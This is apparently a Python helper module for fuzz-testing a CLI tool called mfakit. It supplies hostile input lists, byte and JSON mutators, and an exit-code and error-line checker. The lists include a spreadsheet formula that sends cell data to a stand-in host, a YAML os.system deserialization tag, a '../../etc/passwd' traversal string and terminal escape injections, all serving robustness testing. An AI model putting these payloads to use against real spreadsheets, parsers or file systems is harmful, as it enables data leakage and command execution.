"""Mutators and checks for the CLI fuzz test: fixed seeds, hostile payloads, structure-aware JSON changes."""

from __future__ import annotations

import json
import random
import sys
from collections import Counter
from pathlib import Path
from typing import Any

TESTS = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(TESTS / "importers"))  # the importers' own export generators and secret scan

#: Payloads a stranger could put in a name or a file: rich markup, terminal escapes (ESC, C1 CSI, OSC 8), a
#: formula, YAML/JSON syntax, NUL, invalid UTF-8, a lone surrogate escape, huge numbers, deep nesting, NEL.
HOSTILE_BYTES: list[bytes] = [
    b"[/bold]", b"[link=http://evil.example]x[/link]", b"\x1b[31m", "\u009b2J".encode(), b"\x1b]8;;http://e/\x07",
    b'=HYPERLINK("http://evil.example/?"&A1,"Click")', b'"', b"'", b"{", b"[", b"]", b"}", b":", b"- ", b"\x00",
    b"\xff\xfe", b"\\ud800", b"9" * 5000, b"[" * 3000, "\x85".encode(), b"\r\n", b"!!python/object:os.system",
    b"null", b"true", b"1e999", b"%YAML 1.2\n", b"&a", b"*a", b"\t", b"2024-06-31", b"\xe2\x80\xae",
]
HOSTILE_VALUES: list[Any] = [
    None, True, 0, -1, 1e308, 10 ** 40, "", "[/bold]", "\x1b[31mred", "\u009b2J", "=1+1", "@SUM(A1)", "\x85\u2028",
    "\ud800", "x" * 5000, [], {}, [[[[[]]]]], {"a": {"b": {"c": None}}}, "2024-06-31", "../../etc/passwd",
]


def mutate_bytes(data: bytes, rng: random.Random) -> bytes:
    """A few byte-level changes: flips, hostile insertions, deletions, duplication, truncation."""
    buf = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        pos = rng.randrange(len(buf) + 1)
        op = rng.choice(["flip", "insert", "insert", "delete", "dup", "truncate"])
        if op == "flip" and buf:
            i = min(pos, len(buf) - 1)
            buf[i] ^= 1 << rng.randrange(8)
        elif op == "insert":
            buf[pos:pos] = rng.choice(HOSTILE_BYTES)
        elif op == "delete":
            del buf[pos:pos + rng.randint(1, 40)]
        elif op == "dup" and buf:
            start = rng.randrange(len(buf))
            buf[pos:pos] = buf[start:start + rng.randint(1, 200)]
        elif op == "truncate":
            del buf[pos:]
            break
    return bytes(buf)


def _nodes(doc: Any, path: tuple = ()) -> list[tuple]:
    out = [path]
    if isinstance(doc, dict):
        for k, v in doc.items():
            out += _nodes(v, (*path, k))
    elif isinstance(doc, list):
        for i, v in enumerate(doc):
            out += _nodes(v, (*path, i))
    return out


def mutate_json(data: bytes, rng: random.Random) -> bytes:
    """Valid JSON of the wrong shape: one to three nodes replaced by hostile values, keys dropped or added."""
    try:
        doc = json.loads(data)
    except ValueError:
        return mutate_bytes(data, rng)
    for _ in range(rng.randint(1, 3)):
        paths = _nodes(doc)
        path = rng.choice(paths)
        value = rng.choice(HOSTILE_VALUES)
        if not path:
            doc = value if rng.random() < 0.3 else doc
            continue
        parent = doc
        for key in path[:-1]:
            parent = parent[key]
        last = path[-1]
        if isinstance(parent, dict) and rng.random() < 0.25:
            parent.pop(last, None)
        elif isinstance(parent, dict) and rng.random() < 0.2:
            parent["unexpected" + str(rng.randrange(9))] = value
        else:
            parent[last] = value
    text = json.dumps(doc, ensure_ascii=rng.random() < 0.5)
    return text.encode("utf-8", "surrogatepass")


def mutate(data: bytes, rng: random.Random, json_aware: bool) -> bytes:
    return mutate_json(data, rng) if json_aware and rng.random() < 0.6 else mutate_bytes(data, rng)


#: Exit statuses seen in this session (printed in pytest's summary by tests/fuzz/conftest.py).
EXITS: Counter[int] = Counter()


def check_result(code: int, out: str, err: str, allowed: tuple[int, ...] = (0, 2)) -> None:
    """Exit 0 or 2 (or what the command documents), no traceback, and a failure is ONE error line."""
    EXITS[code] += 1
    assert "Traceback" not in out + err, err[-2000:]
    assert code in allowed, f"exit {code}: {err[-500:]}"
    errors = [ln for ln in err.splitlines() if ln.startswith("mfakit: error:")]
    if code == 2:
        assert len(errors) == 1, err[-2000:]
        assert err.rstrip("\n").splitlines()[-1].startswith("mfakit: error:"), err[-2000:]  # nothing after it
    else:
        assert not errors, err[-2000:]
